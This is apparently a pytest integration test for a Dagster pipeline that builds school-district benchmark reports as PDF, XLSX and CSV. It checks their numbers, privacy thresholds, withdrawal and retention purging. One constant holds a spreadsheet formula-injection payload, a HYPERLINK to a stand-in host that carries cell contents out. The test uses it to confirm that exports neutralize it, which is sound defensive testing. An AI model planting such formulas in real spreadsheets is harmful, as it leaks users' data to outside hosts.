"""Reports through Dagster on a small warehouse built by the real pipeline code.

history (3 states × 40 districts × 2016–2020) → state and district benchmarks (metrics.py) →
the demo's 60 participants and their submissions → cohort assets → report partitions. Then the
files are checked against the warehouse: the PDF renders to non-blank pages whose text carries
the warehouse's numbers, the XLSX cells equal them, the CSV round-trips; injection strings come
out inert; a withdrawn district has no report; expired reports are purged.
"""

import csv
import hashlib
import io
import re
from datetime import UTC, datetime, timedelta
from pathlib import Path

import dagster as dg
import polars as pl
import pytest
from openpyxl import load_workbook

from benchmarking_assets.cli.participants import demo_participants
from benchmarking_assets.core.benchmarks import (
    compute_district_benchmarks,
    compute_state_benchmarks,
)
from benchmarking_assets.core.catalog import METRICS, PUBLIC_METRICS
from benchmarking_assets.core.schemas import DISTRICT_DATA_HISTORY
from benchmarking_assets.defs.partitions import report_key, sync_participant_partitions
from benchmarking_assets.defs.resources import PrivacySettings, ReportSettings, Warehouse
from benchmarking_assets.store import WarehouseStore, audit, participation
from benchmarking_assets.store.reports import RENDERERS, purge_expired_reports
from benchmarking_assets_tests.definitions_support import assets_of
from benchmarking_assets_tests.pdf_support import extract_text, render_pages

YEARS = range(2016, 2021)
YEAR = 2020
STATES = (("CA", 6), ("OR", 41), ("NV", 32))
EVIL = '=HYPERLINK("http://x.example/?"&A1,"click")'


def _u(*parts: object) -> float:
    return int.from_bytes(hashlib.sha256("|".join(map(str, parts)).encode()).digest()[:8]) / 2**64


def seed(store: WarehouseStore, per_state: int = 40) -> None:
    rows = []
    for state, fips in STATES:
        for i in range(per_state):
            leaid = f"{fips:02d}{i:05d}"
            enr = int(400 + 40_000 * _u(leaid, "enr") ** 3)
            for year in YEARS:
                drift = year - 2016
                rows.append({
                    "leaid": leaid, "year": year, "state_code": state, "fips": fips,
                    "lea_name": f"{state} District {i}", "enrollment": enr,
                    "spec_ed_students": int(enr * (0.08 + 0.1 * _u(leaid, "swd"))),
                    "ell_students": int(enr * 0.2 * _u(leaid, "ell")),
                    "teachers_fte": enr / (14 + 10 * _u(leaid, "str", year)),
                    "chronic_absenteeism_rate": 10 + 25 * _u(leaid, "abs", year),
                    "graduation_rate": 70.0 + 25 * _u(leaid, "grad") + drift * (_u(leaid) - 0.5),
                    "math_proficiency": 20.0 + 50 * _u(leaid, "m") + drift * (_u(leaid, 1) - 0.4),
                    "read_proficiency": 25.0 + 50 * _u(leaid, "r", year),
                    "expenditure_pp": 9000 + 9000 * _u(leaid, "e") + 150 * drift,
                    "frl_students": int(enr * _u(leaid, "frl")),
                    "urban_centric_locale": [11, 21, 32, 41, 42, 43][i % 6],
                    "lowest_grade": 0, "highest_grade": 12, "source": "test",
                })  # fmt: skip
    history = pl.DataFrame(rows).select(list(DISTRICT_DATA_HISTORY)).cast(DISTRICT_DATA_HISTORY)
    store.append_rows("district_data_history", history)
    for year in YEARS:
        states = compute_state_benchmarks(history, year)
        store.replace_rows("state_benchmarks", states, {"year": year})
        districts = compute_district_benchmarks(history, states, year)
        store.replace_rows("district_benchmarks", districts, {"year": year})


@pytest.fixture(scope="module")
def world(tmp_path_factory: pytest.TempPathFactory) -> dict:
    tmp = tmp_path_factory.mktemp("reports")
    store = WarehouseStore(f"sqlite:///{tmp / 'warehouse.sqlite'}")
    store.migrate()
    seed(store)
    inbox = tmp / "inbox"
    demo_participants(store, list(YEARS), inbox)
    leaids = participation.list_participants(store)["leaid"].to_list()
    store.execute("UPDATE district_data_history SET lea_name = :n WHERE leaid = :l",
                  {"n": EVIL, "l": leaids[0]})  # fmt: skip
    res = {
        "warehouse": Warehouse(database_url=store.url),
        "privacy": PrivacySettings(min_cohort_size=5, epsilon=1.0, inbox_dir=str(inbox)),
        "reports": ReportSettings(reports_dir=str(tmp / "reports")),
    }
    instance = dg.DagsterInstance.ephemeral()
    by_key = {a.key.to_user_string(): a for a in assets_of(groups=["privacy"])}
    run(dg.materialize([by_key["benchmark_metric_submissions"]], resources=res, instance=instance))
    chain = [by_key[k] for k in ("peer_cohorts", "cohort_benchmarks", "participant_percentiles",
                                 "private_cohort_benchmarks")]  # fmt: skip
    for year in YEARS:
        run(dg.materialize(chain, resources=res, partition_key=str(year), instance=instance))
    added, removed = sync_participant_partitions(instance, store)
    assert sorted(added) == sorted(leaids) and removed == []
    for leaid in leaids[:3]:
        result = dg.materialize(
            assets_of(groups=["reports"]),
            resources=res,
            instance=instance,
            partition_key=report_key(leaid, YEAR),
        )
        run(result)
    return {"store": store, "res": res, "instance": instance, "leaids": leaids, "tmp": tmp,
            "last": result}  # fmt: skip


def run(result: dg.ExecuteInProcessResult) -> dg.ExecuteInProcessResult:
    assert result.success
    assert all(c.passed for c in result.get_asset_check_evaluations())
    return result


def paths(store: WarehouseStore, leaid: str) -> dict[str, Path]:
    rows = store.read_df(
        "SELECT format, path FROM benchmark_reports WHERE leaid = :l AND year = :y",
        {"l": leaid, "y": YEAR},
    )
    return {f: Path(p) for f, p in rows.rows()}


def warehouse_row(store: WarehouseStore, leaid: str) -> dict:
    return store.read_df(
        "SELECT b.*, s.avg_graduation_rate, pc.cohort_id, pc.cohort_size "
        "FROM district_benchmarks b "
        "JOIN state_benchmarks s ON s.state_code = b.state_code AND s.year = b.year "
        "JOIN peer_cohorts pc ON pc.leaid = b.leaid AND pc.year = b.year "
        "WHERE b.leaid = :l AND b.year = :y",
        {"l": leaid, "y": YEAR},
    ).row(0, named=True)


def peer(store: WarehouseStore, cohort_id: str, metric: str) -> dict:
    return store.read_df(
        "SELECT * FROM cohort_benchmarks WHERE year = :y AND cohort_id = :c AND metric = :m",
        {"y": YEAR, "c": cohort_id, "m": metric},
    ).row(0, named=True)


def test_files_are_listed_under_year_and_leaid(world: dict) -> None:
    store, leaid = world["store"], world["leaids"][1]
    found = paths(store, leaid)
    assert set(found) == {"pdf", "xlsx", "csv", "csv_wide"}
    for fmt_, path in found.items():
        assert path.parent == world["tmp"] / "reports" / str(YEAR) / leaid and path.exists()
        ending = "_wide.csv" if fmt_ == "csv_wide" else f".{fmt_}"
        assert path.name == f"benchmark_report_{leaid}_{YEAR}{ending}"
    metadata = world["last"].asset_materializations_for_node("reports_multi_asset")
    shown = {m.asset_key.to_user_string(): m.metadata for m in metadata}
    assert shown["benchmark_reports"]["reports"].value == 1
    assert "data:image/png;base64," in shown["benchmark_reports"]["preview"].value


def test_pdf_renders_to_non_blank_pages_carrying_the_warehouse_numbers(world: dict) -> None:
    store, leaid = world["store"], world["leaids"][1]
    pdf = paths(store, leaid)["pdf"]
    pages = render_pages(pdf, dpi=40, first=1, last=2)
    assert len(pages) == 2
    for number, page in enumerate(pages, start=1):
        gray = page.convert("L")
        dark = sum(1 for v in gray.getdata() if v < 200)
        assert dark > 0.01 * gray.width * gray.height, f"page {number} looks blank"
    text = extract_text(pdf)
    row = warehouse_row(store, leaid)
    grad = peer(store, row["cohort_id"], "graduation")
    name = store.scalar("SELECT lea_name FROM district_data_history WHERE leaid = :l", {"l": leaid})
    assert name in text and "2020-21" in text and leaid in text
    assert f"{row['graduation']:.1f}%" in text  # the district's own value
    assert f"{row['avg_graduation_rate']:.1f}%" in text  # the state average
    assert f"{grad['median']:.1f}%" in text and f"{grad['p25']:.1f}%" in text  # peer cell
    assert f"{row['cohort_size']} districts" in text
    assert "States use different proficiency tests" in text  # the cross-state caveat
    assert "epsilon = 1" in text  # private metrics are DP, with their epsilon


QUARTERS = {"well_below": "lowest 25%", "below": "25-50%", "above": "50-75%",
            "well_above": "highest 25%"}  # fmt: skip
SNAKE = re.compile(r"\b[a-z][a-z0-9]*_[a-z0-9_]+\b")


def test_xlsx_cells_equal_the_warehouse_values(world: dict) -> None:
    store, leaid = world["store"], world["leaids"][1]
    wb = load_workbook(paths(store, leaid)["xlsx"])
    assert {"Summary", "Comparisons", "Trends", "Charts", "Peers", "Peer districts", "Insights",
            "Notes"} <= set(wb.sheetnames)  # fmt: skip
    row = warehouse_row(store, leaid)
    comparisons = {r[0]: r for r in wb["Comparisons"].iter_rows(min_row=2, values_only=True)}
    math_row = comparisons["Math proficiency"]
    # numeric cells; openpyxl writes 15 significant digits, Excel's own precision
    assert math_row[4] == pytest.approx(row["math_proficiency"], rel=1e-14)
    assert math_row[7] == pytest.approx(row["math_proficiency_vs_state"], rel=1e-14)
    assert math_row[9] == QUARTERS[row["math_proficiency_quartile_state"]]
    assert math_row[10] == pytest.approx(row["math_proficiency_trend_3yr"], rel=1e-14)
    peers = {r[0]: r for r in wb["Peers"].iter_rows(min_row=2, values_only=True)}
    cell = peer(store, row["cohort_id"], "math_proficiency")
    assert peers["Math proficiency"][5:12] == pytest.approx(
        tuple(cell[c] for c in ("n", "mean", "median", "p25", "p75", "p90", "std")), rel=1e-14
    )
    trends = [r for r in wb["Trends"].iter_rows(min_row=2, values_only=True)
              if r[0] == "Expenditure per pupil"]  # fmt: skip
    assert [r[1] for r in trends] == list(YEARS)
    members = store.read_df(
        "SELECT leaid FROM peer_cohorts WHERE year = :y AND cohort_id = :c ORDER BY leaid",
        {"y": YEAR, "c": row["cohort_id"]},
    )["leaid"].to_list()
    listed = [r[0] for r in wb["Peer districts"].iter_rows(min_row=2, values_only=True)]
    assert sorted(listed) == members


def test_xlsx_reads_like_a_spreadsheet_a_person_made(world: dict) -> None:
    wb = load_workbook(paths(world["store"], world["leaids"][1])["xlsx"])
    ws = wb["Comparisons"]
    header = [c.value for c in ws[1]]
    by_label = {r[0].value: r for r in ws.iter_rows(min_row=2)}
    math_row, spend = by_label["Math proficiency"], by_label["Expenditure per pupil"]
    col = {h: i for i, h in enumerate(header)}
    assert math_row[col["Your district"]].number_format == '0.0"%"'
    assert spend[col["Your district"]].number_format == '"$"#,##0'
    assert math_row[col["Difference from state"]].number_format.startswith('+0.0" pts"')
    assert math_row[col["3-year change"]].number_format.startswith('+0.0" pts"')
    assert spend[col["3-year change"]].number_format.startswith('+0.0"%"')
    assert by_label["English learners"][col["3-year change"]].number_format.startswith(
        '+0.0"% in count"'
    )
    assert math_row[col["Percentile among peers"]].number_format == "0"
    for sheet in ("Summary", "Comparisons", "Peers", "Trends", "Peer districts", "Insights"):
        s = wb[sheet]
        assert s.freeze_panes in ("A2", "B2"), sheet
        assert len(s.tables) == 1, sheet  # an Excel table: filter buttons, stripes
        table = next(iter(s.tables.values()))
        assert table.ref.startswith("A1:") and table.autoFilter is not None, sheet
        for c in s[1]:  # headers are words, and the column is wide enough for them
            assert not SNAKE.search(str(c.value)), (sheet, c.value)
            width = s.column_dimensions[c.column_letter].width
            assert width >= min(len(str(c.value)), 60), (sheet, c.value, width)
        for r in s.iter_rows(min_row=2, values_only=True):
            for v in r:
                if isinstance(v, str) and sheet not in ("Peer districts",):
                    assert not SNAKE.search(v), (sheet, v)
    assert len(wb["Charts"]._charts) == len(PUBLIC_METRICS)  # one line chart per metric
    assert len(ws._charts) == 1  # percentiles among peers, a native bar chart


def test_wide_csv_is_one_readable_row_per_metric(world: dict) -> None:
    store, leaid = world["store"], world["leaids"][1]
    text = paths(store, leaid)["csv_wide"].read_text(encoding="utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(text)))
    assert [r["Metric"] for r in rows] == [m.label for m in PUBLIC_METRICS]
    assert not any(SNAKE.search(h) for h in rows[0])
    row = warehouse_row(store, leaid)
    got = {r["Metric"]: r for r in rows}
    assert float(got["Math proficiency"]["Your district"]) == round(row["math_proficiency"], 1)
    assert float(got["Expenditure per pupil"]["Your district"]) == round(row["expenditure_pp"])
    assert got["Math proficiency"]["Change unit"] == "pts"
    assert got["Expenditure per pupil"]["Change unit"] == "%"
    assert got["English learners"]["Change unit"] == "% in count"
    assert got["Math proficiency"]["Which way is better"] == "higher is better for students"
    for r in rows:  # no value carries more than the printed precision
        for key in ("Your district", "State average", "Nation", "Peer median"):
            assert "." not in r[key] or len(r[key].split(".")[1]) == 1, (key, r[key])


def test_csv_round_trips(world: dict) -> None:
    store, leaid = world["store"], world["leaids"][1]
    text = paths(store, leaid)["csv"].read_text(encoding="utf-8")
    rows = list(csv.DictReader(io.StringIO(text)))
    got = {(r["section"], r["metric"], r["measure"]): r for r in rows}
    row = warehouse_row(store, leaid)
    for metric in ("graduation", "math_proficiency", "expenditure_pp"):
        assert float(got[("comparison", metric, "district")]["value"]) == row[metric]
        assert float(got[("comparison", metric, "vs_state")]["value"]) == row[f"{metric}_vs_state"]
    frame = pl.read_csv(io.StringIO(text), infer_schema_length=None)
    assert frame.columns[:4] == ["leaid", "report_year", "section", "metric"]
    assert frame.height == len(rows)
    assert frame["value"].dtype == pl.Float64  # numbers stay numbers, negatives included
    assert (frame["value"] < 0).any()


def test_injection_strings_come_out_inert(world: dict) -> None:
    store, leaid = world["store"], world["leaids"][0]
    found = paths(store, leaid)
    rows = list(csv.DictReader(io.StringIO(found["csv"].read_text(encoding="utf-8"))))
    name = next(r for r in rows if r["measure"] == "lea_name")["text"]
    assert name == "'" + EVIL
    assert not any(r[c].startswith(("=", "+", "@", "\t", "\r")) for r in rows for c in r)
    ws = load_workbook(found["xlsx"])["Summary"]
    assert ws["B2"].value == "'" + EVIL and ws["B2"].data_type == "s"
    comparisons = load_workbook(found["xlsx"])["Comparisons"]
    negatives = [c for r in comparisons.iter_rows(min_row=2) for c in r
                 if isinstance(c.value, float) and c.value < 0]  # fmt: skip
    assert negatives and all(c.data_type == "n" for c in negatives)
    text = extract_text(found["pdf"])
    assert "HYPERLINK" in text  # shown as text in the PDF, escaped for reportlab's markup


def test_private_section_only_for_shared_categories_and_published_cells(world: dict) -> None:
    store = world["store"]
    for leaid in world["leaids"][:3]:
        shares = participation.active_shares(store)[leaid]
        rows = list(csv.DictReader(io.StringIO(paths(store, leaid)["csv"].read_text())))
        private = {r["metric"] for r in rows if r["section"] == "private"}
        assert private and {METRICS[m].category for m in private} <= shares
        peer_n = [float(r["value"]) for r in rows if r["measure"] == "peer_n"]
        assert peer_n and min(peer_n) >= 5


def test_generation_and_exports_are_audited(world: dict) -> None:
    log = audit.read_log(world["store"], world["leaids"][1])
    actions = log["action"].to_list()
    assert actions.count("report.generate") == 1 and actions.count("report.export") == 4


def test_insights_are_stored_with_numbers(world: dict) -> None:
    store, leaid = world["store"], world["leaids"][1]
    insights = store.read_df(
        "SELECT insight_rank, kind, severity, detail, numbers FROM benchmark_insights "
        "WHERE leaid = :l AND year = :y ORDER BY insight_rank", {"l": leaid, "y": YEAR},
    )  # fmt: skip
    assert insights.height > 0 and insights["insight_rank"].to_list()[0] == 1
    assert set(insights["severity"]) <= {"high", "medium", "low", "info"}
    others = [n for n in world["leaids"] if n != leaid]
    names = store.read_df("SELECT DISTINCT lea_name FROM district_data_history")["lea_name"]
    for detail in insights["detail"]:  # never another district's id or name
        assert not any(o in detail for o in others)
        assert not any(n in detail for n in names.to_list())


def test_views_serve_only_participants_and_published_cells(world: dict) -> None:
    store = world["store"]
    participants = set(world["leaids"])
    for view in ("v_benchmark_summary", "v_benchmark_compare", "v_benchmark_trends",
                 "v_benchmark_rankings"):  # fmt: skip
        leaids = set(store.read_df(f"SELECT DISTINCT leaid FROM {view}")["leaid"])
        assert leaids and leaids <= participants, view
    leaid = world["leaids"][1]
    row = warehouse_row(store, leaid)
    compare = store.read_df(
        "SELECT peer_median, peer_n, value FROM v_benchmark_compare WHERE leaid = :l AND "
        "year = :y AND metric = 'graduation'", {"l": leaid, "y": YEAR},
    ).row(0, named=True)  # fmt: skip
    cell = peer(store, row["cohort_id"], "graduation")
    assert compare == {"peer_median": cell["median"], "peer_n": cell["n"],
                       "value": row["graduation"]}  # fmt: skip
    assert store.scalar("SELECT MIN(peer_n) FROM v_benchmark_compare") >= 5


def test_withdrawn_district_has_no_report(world: dict) -> None:
    store, res, instance = world["store"], world["res"], world["instance"]
    leaid = world["leaids"][2]
    files = paths(store, leaid)
    assert files
    participation.withdraw(store, leaid, actor="test")
    # the withdrawal itself deletes its report files and rows (they print its values) …
    assert not any(p.exists() for p in files.values())
    withdrawal = audit.read_log(store, leaid).filter(pl.col("action") == "participant.withdraw")
    assert len(files) == len(RENDERERS)  # PDF, XLSX, long and wide CSV
    assert f'"report_files_deleted": {len(RENDERERS)}' in withdrawal["details"][0]
    # … and a run already requested for its partition generates nothing
    run(dg.materialize(assets_of(groups=["reports"]), resources=res, instance=instance,
                       partition_key=report_key(leaid, YEAR)))  # fmt: skip
    assert not any(p.exists() for p in files.values())
    assert paths(store, leaid) == {}
    assert (
        store.scalar("SELECT COUNT(*) FROM benchmark_insights WHERE leaid = :l", {"l": leaid}) == 0
    )
    added, removed = sync_participant_partitions(instance, store)
    assert (added, removed) == ([], [leaid])
    assert leaid not in instance.get_dynamic_partitions("participants")


def test_expired_reports_are_purged(world: dict) -> None:
    store, leaid = world["store"], world["leaids"][1]
    files = paths(store, leaid)
    assert purge_expired_reports(store, now=datetime.now(UTC))["reports_purged"] == 0
    later = datetime.now(UTC) + timedelta(days=400)  # past DATA_RETENTION_DAYS (365)
    counts = purge_expired_reports(store, now=later)
    assert counts["reports_purged"] >= 1 and counts["files_purged"] >= 3
    assert not any(p.exists() for p in files.values())
    assert store.scalar("SELECT COUNT(*) FROM benchmark_reports") == 0
    assert "retention.reports_purge" in audit.read_log(store)["action"].to_list()
